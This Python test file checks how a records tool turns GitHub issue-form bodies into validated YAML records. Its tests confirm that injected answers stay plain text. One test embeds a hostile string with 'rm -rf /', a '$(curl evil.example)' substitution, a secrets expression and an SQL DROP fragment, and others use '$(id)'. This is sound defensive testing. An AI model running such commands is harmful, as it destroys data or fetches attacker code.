"""Issue forms from the schemas (`servicebook forms`) and the way back (the intake): a form body as
GitHub and Gitea render it becomes a record validate accepts, or problems named by the form's own
labels in the submitter's language; hostile answers stay data."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path

import pytest

from conftest import REPO, sb
from servicebook.load import yamlload
from servicebook.load.schemas import SchemaSet
from servicebook.write import issue_forms
from servicebook.write.issue_forms import KIND_LABEL, LANG_LABEL, fields, form_kinds, intake, parse_body

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "issue-forms"
SCHEMAS = SchemaSet(REPO / "schemas")
MOMENT = datetime(2026, 12, 2, 1, 30, tzinfo=timezone.utc)
STAFF = "han-mei"  # P-han-mei's git.handle in the demo records


def body(kind: str, answers: dict[str, str], lang: str = "中文") -> str:
    """An issue body as the host writes it from a form: `### <label>`, a blank line, the answer
    (`_No response_` when empty; a textarea with `render` inside a code fence)."""
    out = [f"### {KIND_LABEL}\n\n{issue_forms.kind_option(SCHEMAS, kind)}\n",
           f"### {LANG_LABEL}\n\n{lang}\n"]
    for f in fields(SCHEMAS, kind):
        value = answers.get(f.id, "")
        if value and f.widget == "yaml":
            value = f"```yaml\n{value}\n```"
        out.append(f"### {f.label}\n\n{value or '_No response_'}\n")
    return "\n".join(out)


COMPLAINT = {
    "customer": "CU-beiguo-pharma", "received_at": "2026-12-02T09:10:00+08:00",
    "channel": "phone — 电话 / Phone", "kind": "quality_complaint — 质量投诉 / Quality complaint",
    "caller__name": "陈晓", "caller__phone": "139 5188 2046",
    "issues": "- problem: 分机无法拨出长途。",
    "cs_part__remarks": "客户语气急。",
}


@pytest.fixture
def repo(demo):
    shutil.copytree(REPO / ".github", demo / ".github")
    return demo


# -- the forms -----------------------------------------------------------------------------------

def test_committed_forms_are_current():
    proc = sb("forms", "--check", "--root", str(REPO), cwd=REPO)
    assert proc.returncode == 0, proc.stdout
    committed = {p.name for p in (REPO / issue_forms.FORMS_DIR).glob("*.yml")}
    assert committed == {f"{k}.yml" for k in form_kinds(SCHEMAS)}


def test_check_fails_on_a_changed_schema_and_forms_puts_it_right(repo):
    schema = repo / "schemas" / "callback.schema.json"
    schema.write_text(schema.read_text(encoding="utf-8").replace('"回访记录"', '"客户回访记录"', 1),
                      encoding="utf-8")
    proc = sb("forms", "--check", "--root", str(repo), cwd=repo)
    assert proc.returncode == 1 and "+name: 客户回访记录" in proc.stdout, proc.stdout
    assert "servicebook forms" in proc.stderr
    assert sb("forms", "--root", str(repo), cwd=repo).returncode == 0
    assert sb("forms", "--check", "--root", str(repo), cwd=repo).returncode == 0
    assert "客户回访记录" in (repo / ".github/ISSUE_TEMPLATE/callback.yml").read_text(encoding="utf-8")


def test_a_form_whose_kind_is_gone_is_stale_and_removed_a_hand_written_one_kept(repo):
    forms_dir = repo / issue_forms.FORMS_DIR
    shutil.copyfile(forms_dir / "callback.yml", forms_dir / "visit.yml")  # a kind since removed
    (forms_dir / "question.yml").write_text("name: Question\n", encoding="utf-8")
    proc = sb("forms", "--check", "--root", str(repo), cwd=repo)
    assert proc.returncode == 1 and "visit.yml (committed)" in proc.stdout
    assert "question.yml" not in proc.stdout
    assert "removed .github/ISSUE_TEMPLATE/visit.yml" in sb("forms", "--root", str(repo), cwd=repo).stdout
    assert not (forms_dir / "visit.yml").exists() and (forms_dir / "question.yml").exists()


@pytest.mark.parametrize("kind", form_kinds(SCHEMAS))
def test_form_asks_every_field_as_the_schema_says(kind):
    form = yamlload.parse((REPO / issue_forms.FORMS_DIR / f"{kind}.yml").read_bytes())
    elements = [e for e in form["body"] if e["type"] != "markdown"]
    labels = [e["attributes"]["label"] for e in elements]
    ids = [e["id"] for e in elements]
    assert len(set(labels)) == len(labels) and len(set(ids)) == len(ids)
    assert all(re.fullmatch(r"[A-Za-z0-9_-]+", i) for i in ids)
    assert all(re.fullmatch(r".+ / .+", label) for label in labels)  # 中文 / English
    by_id = {e["id"]: e for e in elements}
    schema = SCHEMAS.raw[kind]
    for name in schema["required"]:
        if name in issue_forms.SET_BY_INTAKE:
            continue
        asked = [e for i, e in by_id.items() if i == name or i.startswith(f"{name}__")]
        children = SCHEMAS.annotation(kind, (name,), "required")  # an object all of whose
        assert asked and (any(e["validations"]["required"] for e in asked)  # fields are optional
                          or len(asked) > 1 and not children), name
    for f in fields(SCHEMAS, kind):
        enum = next((n["enum"] for n in SCHEMAS.node(kind, f.path) if "enum" in n), None)
        if enum:
            assert by_id[f.id]["type"] == "dropdown"
            assert [v for _, v in f.options] == enum
            assert all(" / " in shown for shown, _ in f.options)  # labelled, both languages


def test_lists_of_objects_are_yaml_with_the_schema_example():
    issues = next(e for e in yamlload.parse((REPO / ".github/ISSUE_TEMPLATE/complaint.yml").read_bytes())["body"]
                  if e.get("id") == "issues")
    assert issues["type"] == "textarea" and issues["attributes"]["render"] == "yaml"
    example = issues["attributes"]["placeholder"]
    assert example.startswith("- problem: ")
    assert parse_body(SCHEMAS, body("complaint", dict(COMPLAINT, issues=example))).values[("issues",)] \
        == SCHEMAS.raw["complaint"]["examples"][0]["issues"]


# -- the way back --------------------------------------------------------------------------------

def test_a_complaint_form_becomes_a_valid_record(repo):
    result = intake(repo, body("complaint", COMPLAINT), STAFF, MOMENT)
    assert result.problems == [] and result.ok
    data = yamlload.parse(result.text.encode())
    assert result.path.startswith("records/complaint/2026/CP-20261202-")
    assert data["filled_by"] == "P-han-mei" and data["created_at"] == "2026-12-02T09:30:00+08:00"
    assert data["channel"] == "phone" and data["kind"] == "quality_complaint"
    assert data["caller"] == {"name": "陈晓", "phone": "139 5188 2046"}
    assert data["issues"] == [{"problem": "分机无法拨出长途。"}]
    assert data["status"] == "open" and len(data["history"]) == 1
    assert result.text.startswith("# yaml-language-server: $schema=")


@pytest.mark.parametrize("fixture", sorted(p.name for p in FIXTURES.glob("*.md")))
def test_form_bodies_as_hosts_render_them(repo, fixture):
    """Bodies written as GitHub writes them (tests/fixtures/issue-forms/<kind>-<case>.md, with
    the expected values beside them in <name>.yml: not .yaml, which tests/test_fast_paths.py reads as records)."""
    text = (FIXTURES / fixture).read_text(encoding="utf-8")
    expected = yamlload.parse((FIXTURES / fixture).with_suffix(".yml").read_bytes())
    result = intake(repo, text, STAFF, MOMENT)
    assert [p.text(result.submission.lang) for p in result.problems] == expected.get("problems", [])
    assert result.submission.kind == expected["kind"] and result.submission.lang == expected["lang"]
    if result.ok:
        data = yamlload.parse(result.text.encode())
        for dotted, value in expected["values"].items():
            node = data
            for part in dotted.split("."):
                node = node[int(part) if part.isdigit() else part]
            assert node == value, dotted


def test_hostile_answers_stay_text(repo):
    hostile = "`rm -rf /` $(curl evil.example) ${{ secrets.X }}\nstatus: closed\nfilled_by: P-boss\n'; DROP"
    answers = dict(COMPLAINT, cs_part__remarks=hostile, caller__position="$(id)`id`")
    result = intake(repo, body("complaint", answers), STAFF, MOMENT)
    assert result.ok, result.problems
    data = yamlload.parse(result.text.encode())
    assert data["cs_part"]["remarks"] == hostile
    assert data["caller"]["position"] == "$(id)`id`"
    assert data["status"] == "open" and data["filled_by"] == "P-han-mei"


def test_a_heading_typed_into_an_answer_is_refused_not_obeyed(repo):
    forged = "见下\n\n### 客户 / Customer\n\nCU-haixia-port"
    result = intake(repo, body("complaint", dict(COMPLAINT, cs_part__remarks=forged)), STAFF, MOMENT)
    assert not result.ok and result.text == ""
    assert [p.text("en") for p in result.problems] == [
        "Customer: The section 'Customer' appears more than once."]


def test_yaml_answers_fill_their_own_field_only(repo):
    sneaky = "- problem: x\nstatus: closed"  # not a list any more: refused as YAML, not merged
    result = intake(repo, body("complaint", dict(COMPLAINT, issues=sneaky)), STAFF, MOMENT)
    assert not result.ok
    assert any(p.en_label == "Issues" for p in result.problems), result.problems
    shaped = "filled_by: P-boss\nstatus: closed"  # a mapping where a list belongs: the schema says no
    result = intake(repo, body("complaint", dict(COMPLAINT, issues=shaped)), STAFF, MOMENT)
    assert not result.ok and {p.en_label for p in result.problems} == {"Issues"}


def test_very_long_answers_and_bodies(repo):
    long_text = "长" * 30_000  # over the schema's 20,000
    result = intake(repo, body("complaint", dict(COMPLAINT, cs_part__remarks=long_text)), STAFF, MOMENT)
    assert [p.en_label for p in result.problems] == ["Customer-service part · Customer-service remarks"]
    huge = body("complaint", COMPLAINT) + "x" * issue_forms.MAX_BODY
    result = intake(repo, huge, STAFF, MOMENT)
    assert [p.text("zh") for p in result.problems] == ["表单:内容太长(超过 200000 个字符)。"]


def test_problems_come_back_in_the_chosen_language_in_a_code_block(repo):
    answers = dict(COMPLAINT, customer="CU-nobody", channel="fax", received_at="昨天 @everyone")
    zh = intake(repo, body("complaint", answers), STAFF, MOMENT)
    en = intake(repo, body("complaint", answers, lang="English"), STAFF, MOMENT)
    assert [p.text("zh") for p in zh.problems] == ["受理渠道:“fax”不是可选的值。"]
    assert [p.text("en") for p in en.problems] == ["Channel: 'fax' is not one of the options."]
    answers["channel"] = COMPLAINT["channel"]
    zh = intake(repo, body("complaint", answers), STAFF, MOMENT)
    texts = [p.text("zh") for p in zh.problems]
    assert any(t.startswith("受理时间:") for t in texts) and any(t.startswith("客户:引用的记录不存在") for t in texts)
    comment = zh.comment()
    assert comment.startswith("表单有以下问题") and "```text\n" in comment  # @everyone is inert there
    en = intake(repo, body("complaint", answers, lang="English"), STAFF, MOMENT)
    assert en.comment().startswith("The form has these problems")
    assert any(t.startswith("Received at: ") for t in (p.text("en") for p in en.problems))


def test_backticks_cannot_close_the_comment_block(repo):
    answers = dict(COMPLAINT, channel="`````\n@everyone")
    result = intake(repo, body("complaint", answers), STAFF, MOMENT)
    comment = result.comment()
    fence = re.search(r"^(`+)text$", comment, re.M).group(1)
    assert len(fence) > 5 and comment.rstrip().endswith(fence)


def test_only_staff_may_file_and_a_login_is_a_handle_only(repo):
    for login in ("stranger", "P-han-mei", "han.mei@huaxin-service.example"):
        result = intake(repo, body("complaint", COMPLAINT), login, MOMENT)
        assert [p.en_label for p in result.problems] == ["Submitter"], login


def test_a_person_who_has_left_may_not_file(repo):
    """Person records carry the GitHub handle, not GitHub's user id: a person who leaves is set
    `active: false`, and their handle files nothing any more (were it renamed and taken over)."""
    person = repo / "records/person/P-han-mei.yaml"
    assert intake(repo, body("complaint", COMPLAINT), STAFF, MOMENT).ok
    person.write_text(person.read_text(encoding="utf-8") + "active: false\n", encoding="utf-8")
    result = intake(repo, body("complaint", COMPLAINT), STAFF, MOMENT)
    assert not result.ok and result.text == ""
    assert [p.text("zh") for p in result.problems] == [
        "提交人:账号 han-mei 对应的人员 P-han-mei 已离职(`active: false`),不能提交记录。"]
    assert [p.text("en") for p in result.problems] == [
        "Submitter: The account han-mei belongs to P-han-mei, who has left (`active: false`), so "
        "it cannot file records."]


def forged_technical_part() -> str:
    """The complaint fixture with the technical part filled in, signed by a technical manager."""
    text = (FIXTURES / "complaint-zh.md").read_text(encoding="utf-8")
    for label, answer in (("技术部填写·技术部备注 / Technical part · Technical remarks", "已修复，客户满意"),
                          ("技术部填写·技术部经办人签字 / Technical part · Technical signer",
                           "```yaml\nby: P-wei-dong\nat: 2026-12-02T10:00:00+08:00\n```")):
        empty = f"### {label}\n\n_No response_\n"
        assert empty in text
        text = text.replace(empty, f"### {label}\n\n{answer}\n")
    return text


def test_the_form_parts_are_checked_as_check_pr_checks_them(repo):
    """The intake's pull request is opened by the workflow's token, which starts no pull-request
    workflow: so the intake itself runs check-pr's rules, and refuses what check-pr would."""
    text = forged_technical_part()
    result = intake(repo, text, "jiang-li", MOMENT)  # customer service fills the technical part
    assert not result.ok
    assert [p.text("zh") for p in result.problems] == [
        "技术部填写·技术部备注:这一部分不由你的岗位填写(P-jiang-li (customer_service) changes "
        "'technical_part', a part filled by technical_engineer, technical_manager)"]
    assert result.comment().startswith("表单有以下问题")
    # the same record, committed by the same person, is what check-pr refuses
    def git(*args: str, who: str = "T <t@example.com>") -> None:
        name, email = who[:-1].split(" <")
        env = dict(os.environ, GIT_AUTHOR_NAME=name, GIT_AUTHOR_EMAIL=email, GIT_COMMITTER_NAME=name,
                   GIT_COMMITTER_EMAIL=email, GIT_CONFIG_GLOBAL=os.devnull, GIT_CONFIG_NOSYSTEM="1")
        subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True)

    git("init", "-q", "-b", "main")
    git("add", "-A")
    git("commit", "-q", "-m", "base")
    (repo / result.path).parent.mkdir(parents=True, exist_ok=True)
    (repo / result.path).write_text(result.text, encoding="utf-8")
    git("switch", "-q", "-c", "intake")
    git("add", result.path)
    git("commit", "-q", "-m", "intake", who="Jiang Li <jiang.li@huaxin-service.example>")
    proc = sb("check-pr", "--base", "main", "--head", "HEAD", "--root", str(repo), cwd=repo)
    assert proc.returncode == 1 and "permission.part" in proc.stdout and "P-jiang-li" in proc.stdout
    # and so does pull-request.yml as the intake dispatches it: the author is the bot that
    # dispatched it, the acting person the record's history `by`
    proc = sb("check-pr", "--base", "main", "--head", "HEAD", "--author", "github-actions[bot]",
              "--root", str(repo), cwd=repo)
    assert proc.returncode == 1 and "permission.part" in proc.stdout and "P-jiang-li" in proc.stdout
    # the customer-service part alone, by customer service, passes both
    assert intake(repo, (FIXTURES / "complaint-zh.md").read_text(encoding="utf-8"), "jiang-li", MOMENT).ok
    # a technical manager may not open a complaint, nor write the customer-service part
    en = intake(repo, text.replace("\n中文\n", "\nEnglish\n", 1), "wei-dong", MOMENT)
    assert [p.en_label for p in en.problems] == ["Status", "Customer-service part · Customer-service remarks"]
    assert en.comment().startswith("The form has these problems")


@pytest.mark.parametrize("typed", ["nan", "inf", "-Infinity", "1e999"])
def test_numbers_must_be_finite(typed):
    submission = parse_body(SCHEMAS, body("survey", {"broadband__bandwidth_mbps": typed}))
    named = [p.text("en") for p in submission.problems if p.en_label.endswith("Bandwidth (Mbit/s)")]
    assert named == [f"Broadband · Bandwidth (Mbit/s): '{typed}' is not a finite number."], submission.problems
    assert ("broadband", "bandwidth_mbps") not in submission.values


def test_a_body_that_is_no_form(repo):
    result = intake(repo, "please fix my phone\n\n### 客户 / Customer\n\nCU-x", STAFF, MOMENT)
    assert result.submission.kind is None
    assert [p.text("zh") for p in result.problems] == ["记录类型:找不到“记录类型”一栏:请用仓库的议题表单提交。"]
    other = body("complaint", COMPLAINT).replace(issue_forms.kind_option(SCHEMAS, "complaint"), "person — 人员")
    assert [p.en for p in parse_body(SCHEMAS, other).problems] == [
        "'person — 人员' is not a kind of record the forms file."]


@pytest.mark.parametrize("kind", form_kinds(SCHEMAS))
def test_every_kind_round_trips_its_schema_example(repo, kind):
    """The schema's own example, typed into the form, comes back as the same values."""
    example = SCHEMAS.raw[kind]["examples"][0]
    answers = {}
    for f in fields(SCHEMAS, kind):
        value = example
        for part in f.path:
            value = value.get(part) if isinstance(value, dict) else None
        if value is None:
            continue
        if f.widget == "dropdown":
            answers[f.id] = next(shown for shown, v in f.options if v == value)
        elif f.widget == "lines":
            answers[f.id] = "\n".join(value)
        elif f.widget == "yaml":
            answers[f.id] = issue_forms.yaml.safe_dump(value, allow_unicode=True, sort_keys=False)
        else:
            answers[f.id] = str(value)
    submission = parse_body(SCHEMAS, body(kind, answers))
    assert submission.problems == [] and submission.kind == kind
    for path, value in submission.values.items():
        expected = example
        for part in path:
            expected = expected[part]
        assert value == expected, path


def run_intake_script(repo, issue_body: str, login: str = STAFF) -> dict[str, str]:
    """The workflow's step as it runs: the script from the default branch, the issue in the event
    file the runner writes ($GITHUB_EVENT_PATH), nothing of it in the environment."""
    import json

    event = repo.parent / "event.json"
    event.write_text(json.dumps({"action": "opened", "issue": {
        "number": 7, "body": issue_body, "user": {"login": login, "id": 1},
        "created_at": "2026-12-02T01:30:00Z"}}), encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if k not in ("ISSUE_BODY", "SUBMITTER", "CREATED_AT")}
    env.update(GITHUB_WORKSPACE=str(repo), GITHUB_EVENT_PATH=str(event), PYTHONPATH=str(REPO / "tools"))
    done = subprocess.run([sys.executable, str(REPO / ".github/scripts/record_intake.py")],
                          env=env, cwd=repo, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    return dict(line.split("=", 1) for line in done.stdout.splitlines())


def test_the_workflow_script_writes_the_record_or_the_reply(repo):
    import base64

    out = run_intake_script(repo, body("complaint", dict(COMPLAINT, cs_part__remarks="$(id) `id`")))
    assert out["ok"] == "true" and re.fullmatch(r"records/complaint/2026/CP-20261202-[0-9A-Z]{6}\.yaml", out["path"])
    assert out["id"] == Path(out["path"]).stem
    assert sb("validate", out["path"], "--root", str(repo), cwd=repo).returncode == 0
    assert yamlload.parse((repo / out["path"]).read_bytes())["cs_part"]["remarks"] == "$(id) `id`"
    # the propose job's checks of what it is handed (it runs no repository code) accept it
    workflow = yamlload.parse((REPO / ".github/workflows/record-intake.yml").read_bytes())
    checks = "\n".join(workflow["jobs"]["propose"]["steps"][-1]["run"].splitlines()[:3])
    checked = subprocess.run(["bash", "-e", "-c", checks + '\necho "$kind"'], capture_output=True, text=True,
                             env={"RECORD": out["path"], "RECORD_ID": out["id"], "PATH": os.environ["PATH"]})
    assert checked.returncode == 0 and checked.stdout == "complaint\n", checked.stderr
    out = run_intake_script(repo, body("complaint", COMPLAINT, lang="English"), login="nobody")
    assert out.keys() == {"ok", "comment"} and out["ok"] == "false"
    reply = base64.b64decode(out["comment"]).decode()
    assert reply.startswith("The form has these problems") and "nobody has no person record" in reply


def test_a_long_chinese_body_gets_a_reply(repo):
    """GitHub's longest body (65,536 characters) in Chinese is 192 KiB, more than one environment
    variable may hold (128 KiB): the script reads it from the event file, and answers."""
    import base64

    filler = "长" * 19_000  # each under the schema's 20,000; together a record too big to hand over
    answers = dict(COMPLAINT, cs_part__remarks=filler, technical_part__remarks=filler)
    text = body("complaint", answers)
    text += "注" * (65_536 - len(text))  # more text in the last answer
    assert len(text) == 65_536 and len(text.encode("utf-8")) > 128 * 1024
    out = run_intake_script(repo, text)
    assert out["ok"] == "false", out
    reply = base64.b64decode(out["comment"]).decode()
    assert "超过 96000 字节的上限" in reply, reply
    # the record job's handover fits in one variable whenever the intake says yes
    shorter = body("complaint", dict(COMPLAINT, cs_part__remarks="长" * 19_000))
    out = run_intake_script(repo, shorter)
    assert out["ok"] == "true"
    size = (repo / out["path"]).stat().st_size
    assert size <= issue_forms.MAX_RECORD_BYTES and len("CONTENT=") + 4 * -(-size // 3) < 128 * 1024


def test_the_intake_pull_request_gets_the_pull_request_checks():
    """A pull request opened with github.token starts no pull_request workflow: the propose job
    dispatches pull-request.yml on the record's branch, which takes its base and author from the
    dispatch (never from an input someone could fill)."""
    workflows = REPO / ".github/workflows"
    intake_wf = yamlload.parse((workflows / "record-intake.yml").read_bytes())
    propose = intake_wf["jobs"]["propose"]
    assert propose["permissions"]["actions"] == "write"
    assert 'gh workflow run pull-request.yml --ref "intake/${RECORD_ID}"' in propose["steps"][-1]["run"]
    checks = yamlload.parse((workflows / "pull-request.yml").read_bytes())
    assert "workflow_dispatch" in checks["on"] and not checks["on"]["workflow_dispatch"]  # no inputs
    steps = {s.get("name"): s for s in checks["jobs"]["check"]["steps"]}
    author = steps["Permissions of the author (status moves, form parts)"]["env"]
    assert author["AUTHOR"] == "${{ github.event.pull_request.user.login || github.actor }}"
    assert author["BASE_REF"] == "${{ github.base_ref || github.event.repository.default_branch }}"
    assert "github.ref" in checks["concurrency"]["group"]  # dispatches do not cancel each other
    read = next(s for s in intake_wf["jobs"]["record"]["steps"] if s.get("id") == "record")
    assert "env" not in read  # the issue comes from the event file, not the environment


def test_the_reply_stays_small_whatever_the_problems_quote(repo):
    """validate's messages quote the values they refuse, and a list answer can give a problem per
    entry; the reply reaches the commenting job in one environment variable (base64, under
    128 KiB) and GitHub takes 65,536 characters a comment: each problem is cut, 50 at most shown."""
    answers = dict(COMPLAINT, customer="C" * 62_000)  # the body is just under GitHub's 65,536
    result = intake(repo, body("complaint", answers), STAFF, MOMENT)
    full = "\n".join(p.text("zh") for p in result.problems)
    assert len(full) > 62_000  # the reply quoted whole: at GitHub's limit, one more field past it
    comment = result.comment()
    assert len(comment) < 1_000 and 4 * len(comment.encode("utf-8")) / 3 < 128 * 1024 - len("COMMENT=")
    assert any(line.startswith("- 客户:引用的记录不存在") and line.endswith("…") for line in comment.splitlines())
    many = issue_forms.Intake(result.submission, problems=result.problems * 40)
    lines = many.comment().splitlines()
    assert lines[-2] == f"- ……另有 {len(many.problems) - issue_forms.REPLY_PROBLEMS} 个问题"
    assert len(many.comment().encode("utf-8")) < 96_000
